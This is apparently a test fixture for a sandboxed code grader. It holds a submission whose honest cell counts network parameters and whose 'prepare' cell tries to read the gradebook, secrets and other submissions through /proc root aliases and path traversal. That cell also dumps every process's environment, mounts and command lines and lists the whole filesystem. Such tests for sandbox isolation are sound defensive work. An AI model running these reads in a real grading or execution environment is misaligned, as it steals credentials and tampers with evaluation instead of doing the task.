"""Reads sources, other submissions, the home, the secret and the gradebook, by every name that they have."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import glob, os, subprocess

for path in [*TARGETS["files"], TARGETS["gradebook"]]:
    for name in (path, f"/proc/1/root{path}", f"/proc/self/root{path}", f"/proc/self/cwd/../../../../..{path}", f"/proc/{os.getppid()}/root{path}", f"/oldroot{path}", f"/newroot{path}"):
        try:
            print(name, open(name, errors="replace").read())
        except OSError as error:
            print(error)
print(subprocess.run(["sh", "-c", "cat /proc/*/environ /proc/*/mountinfo /proc/*/cmdline; ls -laR / 2>/dev/null | head -c 100000"], capture_output=True).stdout)
